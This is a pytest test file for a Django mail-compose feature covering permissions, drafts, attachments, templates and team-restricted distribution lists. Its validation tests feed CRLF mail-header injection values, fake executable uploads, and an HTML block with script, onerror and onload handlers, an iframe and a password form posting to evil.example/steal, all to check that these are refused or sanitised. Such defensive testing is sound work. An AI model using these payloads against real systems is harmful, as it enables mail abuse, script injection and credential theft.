import datetime

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from compose.models import Draft, DraftAttachment
from compose.services import draft_add_attachment
from mailbox.models import OutboxMessage
from tests.factories import MailTemplateFactory, UserFactory

NEW = reverse("compose:new")


@pytest.fixture
def english(client_for):
    def login(user):
        client = client_for(user)
        client.post("/i18n/setlang/", {"language": "en"})
        return client

    return login


def form_data(configuration, **values):
    data = {
        "smtp_configuration": configuration.pk,
        "from_email": "",
        "from_name": "Labor",
        "to": "",
        "cc": "",
        "bcc": "",
        "send_mode": "per_recipient",
        "subject": "Ihr Zertifikat",
        "body_html": "<p>Guten Tag</p>",
        "scheduled_at": "",
        "action": "preview",
    }
    data.update(values)
    return data


def upload(name, content=b"%PDF-1.7 Zertifikat", content_type="application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


# --- permissions ---------------------------------------------------------------------------


def test_compose_anonymous_redirected_to_login(client):
    response = client.get(NEW)
    assert (response.status_code, response["Location"]) == (302, f"/accounts/login/?next={NEW}")


@pytest.mark.parametrize("role", ["viewer", "outsider"])
def test_compose_without_permission_gets_403(client_for, request, role, configuration):
    client = client_for(request.getfixturevalue(role))
    responses = [
        client.get(NEW),
        client.post(NEW, form_data(configuration, to="a@example.com")),
        client.get(reverse("compose:drafts")),
    ]
    assert [r.status_code for r in responses] == [403, 403, 403]
    assert Draft.objects.count() == 0


@pytest.mark.parametrize("role", ["power_user", "admin"])
def test_compose_form_shown_with_default_configuration(english, request, role, configuration):
    from tests.factories import SmtpConfigurationFactory

    SmtpConfigurationFactory(name="Zweitserver", from_email="zwei@calserver.example")
    response = english(request.getfixturevalue(role)).get(NEW)
    text = response.content.decode()
    assert response.status_code == 200
    assert (
        f'<option value="{configuration.pk}" selected '
        'data-from-email="labor@calserver.example">Hauptserver</option>'
    ) in text
    assert 'value="labor@calserver.example"' in text
    assert "compose/compose.js" in text
    assert f'data-recipient-picker="{reverse("inventory:recipient_search")}"' in text
    assert '<script src="/static/js/recipient-picker.js" defer></script>' in text


def test_compose_nav_entry_only_for_composers(client_for, power_user, viewer):
    outbox = reverse("mailbox:list")
    power_page = client_for(power_user).get(outbox).content.decode()
    viewer_page = client_for(viewer).get(outbox).content.decode()
    assert f'href="{NEW}"' in power_page
    assert f'href="{NEW}"' not in viewer_page


def test_draft_of_another_user_is_404(client_for, admin, power_user, configuration):
    draft = Draft.objects.create(owner=power_user, subject="Privat")
    client = client_for(admin)
    urls = [
        reverse("compose:draft", args=[draft.pk]),
        reverse("compose:preview", args=[draft.pk]),
        reverse("compose:body", args=[draft.pk]),
    ]
    statuses = [client.get(url).status_code for url in urls]
    statuses.append(client.post(reverse("compose:send", args=[draft.pk])).status_code)
    statuses.append(client.post(reverse("compose:delete", args=[draft.pk])).status_code)
    assert statuses == [404] * 5
    assert "Privat" not in client.get(reverse("compose:drafts")).content.decode()
    assert Draft.objects.filter(pk=draft.pk).exists()
    assert OutboxMessage.objects.count() == 0


# --- validation: every message next to its field, nothing lost ------------------------------


def _content(attachment):
    with attachment.file.open("rb") as handle:
        return handle.read()


def _errors(response, field):
    return [str(e) for e in response.context["form"].errors.get(field, [])]


def test_preview_invalid_address_message_and_draft_keeps_it(english, power_user, configuration):
    response = english(power_user).post(
        NEW, form_data(configuration, to="kein-at-zeichen, ok@example.com")
    )
    assert response.status_code == 400
    assert _errors(response, "to") == ["“kein-at-zeichen” is not a valid e-mail address."]
    draft = Draft.objects.get(owner=power_user)
    assert draft.to == ["kein-at-zeichen", "ok@example.com"]
    assert draft.subject == "Ihr Zertifikat"
    assert 'value="kein-at-zeichen, ok@example.com"' in response.content.decode()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("subject", "Hallo\r\nBcc: opfer@example.com"),
        ("from_name", "Labor\nBcc: opfer@example.com"),
        ("to", "a@example.com\r\nBcc: opfer@example.com"),
    ],
)
def test_preview_header_injection_refused(english, power_user, configuration, field, value):
    response = english(power_user).post(
        NEW, form_data(configuration, **({"to": "a@example.com"} | {field: value}))
    )
    assert response.status_code == 400
    assert _errors(response, field) == [
        "Line breaks are not allowed here (they could inject mail headers)."
    ]
    assert OutboxMessage.objects.count() == 0


def test_preview_missing_subject_and_recipient(english, power_user, configuration):
    response = english(power_user).post(NEW, form_data(configuration, subject="  "))
    assert (_errors(response, "subject"), _errors(response, "to")) == (
        ["Enter a subject."],
        ["Enter at least one recipient."],
    )


def test_preview_invalid_from_address(english, power_user, configuration):
    response = english(power_user).post(
        NEW, form_data(configuration, to="a@example.com", from_email="labor@")
    )
    assert _errors(response, "from_email") == ["“labor@” is not a valid e-mail address."]


def test_preview_unavailable_recipient_reference(english, power_user, configuration):
    response = english(power_user).post(
        NEW, form_data(configuration, to="a@example.com, customer:999999")
    )
    assert _errors(response, "to") == [
        "Recipient 2 (customer:999999): unknown selection. It does not exist or is not "
        "available to you; remove it."
    ]


def test_preview_planned_time_in_the_past_refused_and_kept(english, power_user, configuration):
    # Noon: "an hour ago" in wall-clock time may not exist (or exist twice) on DST days.
    past = datetime.datetime.combine(
        timezone.localdate() - datetime.timedelta(days=1), datetime.time(12)
    )
    typed = past.strftime("%Y-%m-%dT%H:%M")
    response = english(power_user).post(
        NEW, form_data(configuration, to="a@example.com", scheduled_at=typed)
    )
    assert _errors(response, "scheduled_at") == [
        "The planned time is in the past. Choose a later time or leave it empty to send now."
    ]
    draft = Draft.objects.get(owner=power_user)
    assert timezone.localtime(draft.scheduled_at).strftime("%Y-%m-%dT%H:%M") == typed
    assert f'value="{typed}"' in response.content.decode()


def test_too_large_file_refused_other_file_kept(english, power_user, configuration, settings):
    settings.CALMAIL_ATTACHMENT_MAX_BYTES = 1_000_000
    data = form_data(configuration, to="a@example.com")
    data["new_files"] = [upload("gross.pdf", b"%PDF" + b"0" * 1_500_000), upload("klein.pdf")]
    response = english(power_user).post(NEW, data)
    assert response.status_code == 400
    assert _errors(response, "new_files") == [
        "gross.pdf is 1.5 MB; at most 1 MB are allowed per file."
    ]
    draft = Draft.objects.get(owner=power_user)
    assert [(a.filename, a.size) for a in draft.attachments.all()] == [("klein.pdf", 19)]
    # The kept file is listed on the redisplayed form, with a remove checkbox.
    assert "klein.pdf (19\xa0bytes)" in response.content.decode()


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("tool.exe", b"MZ\x90\x00", "tool.exe looks like a program or script"),
        ("install.sh", b"echo hi", "install.sh looks like a program or script"),
        ("rechnung.pdf", b"MZ\x90\x00rest", "rechnung.pdf contains a program or script"),
        ("notes.txt", b"\x7fELF\x02\x01", "notes.txt contains a program or script"),
    ],
)
def test_dangerous_file_refused_with_clear_message(
    english, power_user, configuration, name, content, message
):
    data = form_data(configuration, to="a@example.com", action="save")
    data["new_files"] = [upload(name, content, "application/octet-stream")]
    response = english(power_user).post(NEW, data)
    assert response.status_code == 400
    [error] = _errors(response, "new_files")
    assert error.startswith(message)
    assert DraftAttachment.objects.count() == 0
    assert Draft.objects.get(owner=power_user).to == ["a@example.com"]


def test_too_many_files_refused(english, power_user, configuration, settings):
    settings.CALMAIL_COMPOSE_MAX_FILES = 2
    data = form_data(configuration, to="a@example.com", action="save")
    data["new_files"] = [upload("a.pdf"), upload("b.pdf"), upload("c.pdf")]
    response = english(power_user).post(NEW, data)
    assert _errors(response, "new_files") == [
        "c.pdf was not attached: at most 2 files are allowed."
    ]
    assert sorted(DraftAttachment.objects.values_list("filename", flat=True)) == ["a.pdf", "b.pdf"]


# --- drafts --------------------------------------------------------------------------------


def test_draft_round_trip_keeps_everything_and_attachments(
    english, power_user, configuration, customer
):
    client = english(power_user)
    data = form_data(
        configuration,
        to=f"customer:{customer.pk}, x@example.com",
        cc="cc@example.com",
        action="save",
    )
    data["new_files"] = [upload("Zertifikat.pdf")]
    response = client.post(NEW, data)
    draft = Draft.objects.get(owner=power_user)
    assert response["Location"] == reverse("compose:draft", args=[draft.pk])

    page = client.get(response["Location"]).content.decode()
    assert f'value="customer:{customer.pk}, x@example.com"' in page
    assert "1001 · Muster GmbH" in page  # the chip's label, for the widget
    assert 'value="cc@example.com"' in page
    assert "Zertifikat.pdf (19\xa0bytes)" in page
    assert [_content(a) for a in draft.attachments.all()] == [b"%PDF-1.7 Zertifikat"]
    listed = client.get(reverse("compose:drafts")).content.decode()
    assert reverse("compose:draft", args=[draft.pk]) in listed

    # Reopened and sent: the attachment from the draft goes with the mail.
    response = client.post(reverse("compose:send", args=[draft.pk]))
    mails = OutboxMessage.objects.order_by("pk")
    assert [m.to for m in mails] == [["Muster GmbH <einkauf@muster.example>"], ["x@example.com"]]
    assert [[a.filename for a in m.attachments.all()] for m in mails] == [["Zertifikat.pdf"]] * 2
    assert Draft.objects.count() == 0


def test_draft_body_sanitised_when_stored(client_for, power_user, configuration):
    body = '<p>Hallo <b>Welt</b></p><script>alert(1)</script><img src="https://t.example/p.gif">'
    client_for(power_user).post(NEW, form_data(configuration, action="save", body_html=body))
    assert Draft.objects.get().body_html == "<p>Hallo <b>Welt</b></p><img>"


def test_draft_list_queries_do_not_grow(client_for, power_user):
    client = client_for(power_user)
    counts = []
    for total in (1, 3):
        while Draft.objects.count() < total:
            draft = Draft.objects.create(
                owner=power_user, subject=f"Entwurf-{Draft.objects.count()}"
            )
            draft_add_attachment(draft=draft, filename="a.pdf", content=b"%PDF")
        with CaptureQueriesContext(connection) as captured:
            response = client.get(reverse("compose:drafts"))
        assert response.content.decode().count("Entwurf-") == total
        counts.append(len(captured))
    assert counts[0] == counts[1]


def test_draft_remove_attachment(english, power_user, configuration):
    client = english(power_user)
    data = form_data(configuration, action="save")
    data["new_files"] = [upload("a.pdf"), upload("b.pdf")]
    client.post(NEW, data)
    draft = Draft.objects.get()
    first = draft.attachments.get(filename="a.pdf")
    client.post(
        reverse("compose:draft", args=[draft.pk]),
        form_data(configuration, action="save", remove_attachments=[str(first.pk)]),
    )
    assert list(draft.attachments.values_list("filename", flat=True)) == ["b.pdf"]


def test_draft_delete(client_for, power_user):
    draft = Draft.objects.create(owner=power_user, subject="Weg")
    response = client_for(power_user).post(reverse("compose:delete", args=[draft.pk]))
    assert response["Location"] == reverse("compose:drafts")
    assert Draft.objects.count() == 0


# --- preview and send ----------------------------------------------------------------------


def test_preview_shows_each_mail_with_list_expansion_and_attachments(
    english, power_user, configuration, customer, distribution_list
):
    client = english(power_user)
    data = form_data(configuration, to=f"customer:{customer.pk}, list:{distribution_list.pk}")
    data["new_files"] = [upload("Zertifikat.pdf")]
    response = client.post(NEW, data)
    draft = Draft.objects.get()
    assert response["Location"] == reverse("compose:preview", args=[draft.pk])

    page = client.get(response["Location"]).content.decode()
    assert "3 mails will be created" in page
    assert "Muster GmbH &lt;einkauf@muster.example&gt;" in page
    assert "Anna Berg &lt;anna@example.com&gt;" in page
    assert page.count("via Labor-Team") == 2
    assert "Zertifikat.pdf (19\xa0bytes)" in page
    assert reverse("compose:body", args=[draft.pk]) in page
    assert OutboxMessage.objects.count() == 0


def test_preview_body_frame_is_sanitised_and_locked_down(client_for, power_user):
    draft = Draft.objects.create(
        owner=power_user, subject="S", body_html='<p onclick="x()">Hallo</p><script>bad()</script>'
    )
    response = client_for(power_user).get(reverse("compose:body", args=[draft.pk]))
    text = response.content.decode()
    assert "<p>Hallo</p>" in text
    assert ("script" in text, "onclick" in text) == (False, False)
    assert response["Content-Security-Policy"].startswith("default-src 'none'")


def test_send_creates_rows_and_lands_on_filtered_outbox(
    english, power_user, configuration, customer, distribution_list, team
):
    client = english(power_user)
    other = OutboxMessage.objects.create(
        subject="Fremd", to=["z@example.com"], smtp_configuration=configuration, source="compose"
    )
    client.post(
        NEW,
        form_data(
            configuration,
            to=f"customer:{customer.pk}, list:{distribution_list.pk}",
            bcc="archiv@example.com",
        ),
    )
    draft = Draft.objects.get()
    response = client.post(reverse("compose:send", args=[draft.pk]))

    rows = OutboxMessage.objects.exclude(pk=other.pk).order_by("pk")
    assert [(r.to, r.bcc, r.address_type) for r in rows] == [
        (["Muster GmbH <einkauf@muster.example>"], ["archiv@example.com"], "customer"),
        (["Anna Berg <anna@example.com>"], ["archiv@example.com"], "distribution"),
        (["Partner <extern@partner.example>"], ["archiv@example.com"], "distribution"),
    ]
    assert {(r.source, r.created_by_id, r.owner_group_id, r.status) for r in rows} == {
        ("compose", power_user.pk, team.pk, "queued")
    }
    batch = rows[0].parameters["compose_batch"]
    assert response["Location"] == f"{reverse('mailbox:list')}?source=compose&parameters={batch}"
    outbox = client.get(response["Location"]).content.decode()
    for address in ("einkauf@muster.example", "anna@example.com", "extern@partner.example"):
        assert address in outbox
    assert "Fremd" not in outbox
    assert Draft.objects.count() == 0


def test_send_one_mail_to_all_planned(english, power_user, configuration, customer):
    client = english(power_user)
    later = datetime.datetime.combine(
        timezone.localdate() + datetime.timedelta(days=1), datetime.time(12)
    )
    client.post(
        NEW,
        form_data(
            configuration,
            to=f"customer:{customer.pk}, b@example.com",
            send_mode="all",
            scheduled_at=later.strftime("%Y-%m-%dT%H:%M"),
        ),
    )
    client.post(reverse("compose:send", args=[Draft.objects.get().pk]))
    [row] = OutboxMessage.objects.all()
    assert row.to == ["Muster GmbH <einkauf@muster.example>", "b@example.com"]
    assert row.status == "scheduled"
    assert timezone.localtime(row.scheduled_at).strftime("%Y-%m-%d %H:%M") == later.strftime(
        "%Y-%m-%d %H:%M"
    )


def test_send_refused_when_time_passed_since_preview(english, power_user, configuration):
    draft = Draft.objects.create(
        owner=power_user,
        smtp_configuration=configuration,
        to=["a@example.com"],
        subject="S",
        # Yesterday noon: "5 minutes ago" may fall in the hour that repeats when DST ends,
        # which the form (a wall-clock time) cannot read back unambiguously.
        scheduled_at=timezone.make_aware(
            datetime.datetime.combine(
                timezone.localdate() - datetime.timedelta(days=1), datetime.time(12)
            )
        ),
    )
    response = english(power_user).post(reverse("compose:send", args=[draft.pk]))
    assert response.status_code == 400
    assert _errors(response, "scheduled_at") == [
        "The planned time is in the past. Choose a later time or leave it empty to send now."
    ]
    assert OutboxMessage.objects.count() == 0


def test_owner_group_chosen_when_user_has_several_teams(english, power_user, configuration, team):
    from django.contrib.auth.models import Group

    second = Group.objects.create(name="Team Süd")
    power_user.groups.add(second)
    client = english(power_user)
    response = client.post(NEW, form_data(configuration, to="a@example.com"))
    assert _errors(response, "owner_group") == ["Choose the group the mails belong to."]
    draft = Draft.objects.get()
    client.post(
        reverse("compose:draft", args=[draft.pk]),
        form_data(configuration, to="a@example.com", owner_group=second.pk),
    )
    client.post(reverse("compose:send", args=[draft.pk]))
    assert list(OutboxMessage.objects.values_list("owner_group__name", flat=True)) == ["Team Süd"]


# --- templates -----------------------------------------------------------------------------


def test_template_fills_in_subject_body_and_report(english, power_user, configuration, customer):
    template = MailTemplateFactory(
        name="Erinnerung",
        add_attachment="report",
        export_type="csv",
        texts={"de": {"subject": "Fällig für {{ recipient.name }}", "body_html": "<p>Liste</p>"}},
    )
    template.empty_attachment_allowed = True
    template.save()
    client = english(power_user)
    response = client.post(
        NEW,
        form_data(
            configuration,
            to=f"customer:{customer.pk}",
            subject="",
            template=template.pk,
            action="template",
        ),
    )
    draft = Draft.objects.get()
    assert response["Location"] == reverse("compose:draft", args=[draft.pk])
    assert (draft.subject, draft.body_html, draft.template_id) == (
        "Fällig für Muster GmbH",
        "<p>Liste</p>",
        template.pk,
    )
    assert draft.from_email == "kalibrierlabor@calserver.example"
    assert [(a.exported, a.filename.endswith(".csv")) for a in draft.attachments.all()] == [
        (True, True)
    ]
    page = client.get(response["Location"]).content.decode()
    assert 'value="Fällig für Muster GmbH"' in page


def test_template_without_recipient_asks_for_one(english, power_user, configuration):
    template = MailTemplateFactory()
    response = english(power_user).post(
        NEW, form_data(configuration, template=template.pk, action="template")
    )
    assert _errors(response, "template_recipient") == [
        "Choose a recipient (or enter a To recipient) to fill the template for."
    ]


def test_template_for_an_invalid_to_address_asks_to_correct_it(english, power_user, configuration):
    template = MailTemplateFactory(add_attachment="none")
    response = english(power_user).post(
        NEW,
        form_data(
            configuration, to="kein-at-zeichen", subject="", template=template.pk, action="template"
        ),
    )
    assert response.status_code == 400
    assert _errors(response, "to") == ["“kein-at-zeichen” is not a valid e-mail address."]
    draft = Draft.objects.get()
    assert (draft.to, draft.subject) == (["kein-at-zeichen"], "")


def test_viewer_cannot_send_a_draft(client_for, viewer):
    owner = UserFactory(username="jemand")
    draft = Draft.objects.create(owner=owner, subject="S", to=["a@example.com"])
    response = client_for(viewer).post(reverse("compose:send", args=[draft.pk]))
    assert response.status_code == 403
    assert OutboxMessage.objects.count() == 0


def test_preview_without_any_smtp_configuration(english, power_user):
    data = {"to": "a@example.com", "subject": "S", "send_mode": "per_recipient"}
    response = english(power_user).post(NEW, data | {"action": "preview"})
    assert _errors(response, "smtp_configuration") == [
        "There is no SMTP configuration to send through."
    ]
    assert Draft.objects.get().to == ["a@example.com"]


def test_template_rendered_for_chosen_recipient(english, power_user, configuration, customer):
    template = MailTemplateFactory(
        add_attachment="none",
        texts={"de": {"subject": "Hallo {{ recipient.name }}", "body_html": "<p>x</p>"}},
    )
    english(power_user).post(
        NEW,
        form_data(
            configuration,
            to="a@example.com",
            template=template.pk,
            template_recipient=f"customer:{customer.pk}",
            action="template",
        ),
    )
    draft = Draft.objects.get()
    assert (draft.subject, draft.attachments.count()) == ("Hallo Muster GmbH", 0)


# --- what a user may see: another team's distribution lists (issue 12, item 5) -------------


@pytest.fixture
def hidden_list(team):
    """A list of another team, with members the power user (of "Team Nord") must not see."""
    from django.contrib.auth.models import Group

    from tests.factories import DistributionListFactory

    other_team = Group.objects.create(name="Team Süd")
    member = UserFactory(
        username="geheim", first_name="Bert", last_name="Geheim", email="bert@geheim.example"
    )
    return DistributionListFactory(
        name="Geheimverteiler",
        description="Nur für Team Süd",
        owner_group=other_team,
        users=[member],
        addresses=[("vip@geheim.example", "VIP")],
    )


HIDDEN_WORDS = ("Geheimverteiler", "Nur für Team Süd", "Bert Geheim", "geheim.example")


def _unknown_message(position, token):
    return (
        f"Recipient {position} ({token}): unknown selection. It does not exist or is not "
        "available to you; remove it."
    )


def _assert_nothing_hidden(text):
    assert [word for word in HIDDEN_WORDS if word in text] == []


def test_hidden_list_refused_on_save_and_never_named(
    english, power_user, configuration, hidden_list
):
    client = english(power_user)
    token = f"list:{hidden_list.pk}"
    response = client.post(
        NEW, form_data(configuration, to=f"a@example.com, {token}", action="save")
    )
    text = response.content.decode()
    assert response.status_code == 400
    assert _errors(response, "to") == [_unknown_message(2, token)]
    bound = response.context["form"]["to"]
    assert bound.field.widget.choices_for(bound.value()) == [
        {
            "token": "address:a@example.com",
            "label": "a@example.com",
            "kind": "address",
            "kind_label": "Typed address",
            "detail": "",
        },
        {
            "token": token,
            "label": f"{token} (unknown selection)",
            "kind": "list",
            "kind_label": "Distribution list",
            "detail": "",
        },
    ]
    # The picker gets them with the field.
    assert 'data-choices="[{&quot;token&quot;: &quot;address:a@example.com&quot;' in text
    _assert_nothing_hidden(text)
    # The draft keeps what was typed, and shows it again without the list's name.
    draft = Draft.objects.get(owner=power_user)
    assert draft.to == ["a@example.com", token]
    page = client.get(reverse("compose:draft", args=[draft.pk]))
    assert page.status_code == 200
    assert f"{token} (unknown selection)" in page.content.decode()
    _assert_nothing_hidden(page.content.decode())


def test_hidden_list_refused_on_preview_and_send(english, power_user, configuration, hidden_list):
    token = f"list:{hidden_list.pk}"
    draft = Draft.objects.create(
        owner=power_user, smtp_configuration=configuration, to=[token], subject="S"
    )
    client = english(power_user)
    preview = client.get(reverse("compose:preview", args=[draft.pk]))
    send = client.post(reverse("compose:send", args=[draft.pk]))
    assert (preview.status_code, send.status_code) == (400, 400)
    assert _errors(preview, "to") == _errors(send, "to") == [_unknown_message(1, token)]
    _assert_nothing_hidden(preview.content.decode() + send.content.decode())
    assert OutboxMessage.objects.count() == 0
    assert Draft.objects.filter(pk=draft.pk).exists()


def test_hidden_list_not_used_to_fill_in_a_template(
    english, power_user, configuration, hidden_list
):
    template = MailTemplateFactory(
        add_attachment="none",
        texts={"de": {"subject": "Hallo {{ recipient.name }}", "body_html": "<p>x</p>"}},
    )
    response = english(power_user).post(
        NEW,
        form_data(
            configuration,
            to=f"list:{hidden_list.pk}",
            subject="",
            template=template.pk,
            action="template",
        ),
    )
    assert response.status_code == 400
    assert _errors(response, "to") == [_unknown_message(1, f"list:{hidden_list.pk}")]
    _assert_nothing_hidden(response.content.decode())
    # Nor when it is named as the recipient to fill the template in for.
    response = english(power_user).post(
        reverse("compose:draft", args=[Draft.objects.get().pk]),
        form_data(
            configuration,
            to="a@example.com",
            subject="",
            template=template.pk,
            template_recipient=f"list:{hidden_list.pk}",
            action="template",
        ),
    )
    assert response.status_code == 400
    assert _errors(response, "template_recipient") == [
        f"The recipient list:{hidden_list.pk} does not exist or is not available to you."
    ]
    _assert_nothing_hidden(response.content.decode())
    assert Draft.objects.get().subject == ""


def test_hidden_list_not_found_by_recipient_search(english, power_user, hidden_list):
    client = english(power_user)
    found = [
        client.get(reverse("inventory:recipient_search"), {"q": word}).json()
        for word in ("Geheimverteiler", "Team Süd", "VIP")
    ]
    assert found == [{"results": []}, {"results": []}, {"results": []}]


def test_own_team_list_and_public_list_are_described(
    english, power_user, configuration, team, distribution_list
):
    from tests.factories import DistributionListFactory

    own = DistributionListFactory(name="Nord-Verteiler", description="Team Nord", owner_group=team)
    response = english(power_user).post(
        NEW,
        form_data(configuration, to=f"list:{own.pk}, list:{distribution_list.pk}", action="save"),
    )
    page = english(power_user).get(response["Location"]).content.decode()
    assert ("Nord-Verteiler" in page, "Labor-Team" in page) == (True, True)
    assert "unknown selection" not in page


def test_administrator_sees_every_team_list(english, admin, configuration, hidden_list):
    response = english(admin).post(
        NEW, form_data(configuration, to=f"list:{hidden_list.pk}", action="save")
    )
    page = english(admin).get(response["Location"]).content.decode()
    assert "Geheimverteiler" in page


# --- every way into the editor is sanitised (issue 12, item 8) ------------------------------

ACTIVE_HTML = (
    '<p>Hallo <strong>Welt</strong> <a href="https://calserver.example/info">Info</a></p>'
    '<img src="x" onerror="alert(1)"><svg onload="alert(2)"><circle r="1"></circle></svg>'
    '<script>alert(3)</script><iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/steal"><input name="pw"><button>OK</button></form>'
)
SANITISED_HTML = (
    '<p>Hallo <strong>Welt</strong> <a href="https://calserver.example/info" target="_blank" '
    'rel="noopener noreferrer">Info</a></p><img>OK'
)
ACTIVE_PARTS = (
    "onerror",
    "onload",
    "<svg",
    "<script",
    "alert(",
    "<iframe",
    "<form",
    "evil.example",
)


def _editor_value(response) -> str:
    """What compose.js puts into the editor as HTML: the body textarea's value."""
    import html
    import re

    match = re.search(
        r'<textarea name="body_html"[^>]*>\n?(.*?)</textarea>', response.content.decode(), re.S
    )
    return html.unescape(match.group(1))


def _assert_inert(value):
    assert [part for part in ACTIVE_PARTS if part in value] == []


def test_template_applied_is_sanitised_in_draft_and_editor(english, power_user, configuration):
    template = MailTemplateFactory(
        add_attachment="none", texts={"de": {"subject": "Hallo", "body_html": ACTIVE_HTML}}
    )
    client = english(power_user)
    response = client.post(
        NEW,
        form_data(configuration, to="a@example.com", template=template.pk, action="template"),
    )
    draft = Draft.objects.get()
    assert draft.body_html == SANITISED_HTML
    page = client.get(response["Location"])
    assert _editor_value(page) == SANITISED_HTML
    _assert_inert(_editor_value(page))


def test_draft_stored_unsanitised_is_sanitised_in_editor(english, power_user, configuration):
    # As a draft saved before drafts were sanitised on every path.
    draft = Draft.objects.create(owner=power_user, subject="Alt", body_html=ACTIVE_HTML)
    page = english(power_user).get(reverse("compose:draft", args=[draft.pk]))
    assert _editor_value(page) == SANITISED_HTML
    _assert_inert(_editor_value(page))


def test_refused_submission_shows_sanitised_body_in_editor(english, power_user, configuration):
    response = english(power_user).post(
        NEW, form_data(configuration, to="a@example.com", subject="", body_html=ACTIVE_HTML)
    )
    assert response.status_code == 400
    assert _editor_value(response) == SANITISED_HTML
    assert Draft.objects.get().body_html == SANITISED_HTML


def test_refused_send_shows_sanitised_body_in_editor(english, power_user, configuration):
    draft = Draft.objects.create(owner=power_user, subject="", body_html=ACTIVE_HTML)
    response = english(power_user).post(reverse("compose:send", args=[draft.pk]))
    assert response.status_code == 400
    assert _editor_value(response) == SANITISED_HTML
    assert OutboxMessage.objects.count() == 0


def test_draft_save_sanitises_active_html(client_for, power_user, configuration):
    client_for(power_user).post(NEW, form_data(configuration, action="save", body_html=ACTIVE_HTML))
    assert Draft.objects.get().body_html == SANITISED_HTML


# --- a draft without subject (issue 12, item 11) --------------------------------------------


def test_draft_list_shows_draft_without_subject(client_for, english, power_user):
    draft = Draft.objects.create(owner=power_user, subject="")
    link = reverse("compose:draft", args=[draft.pk])
    german = client_for(power_user).get(reverse("compose:drafts"))
    assert german.status_code == 200
    assert f'<a href="{link}">(kein Betreff)</a>' in german.content.decode()
    english_page = english(power_user).get(reverse("compose:drafts"))
    assert f'<a href="{link}">(no subject)</a>' in english_page.content.decode()
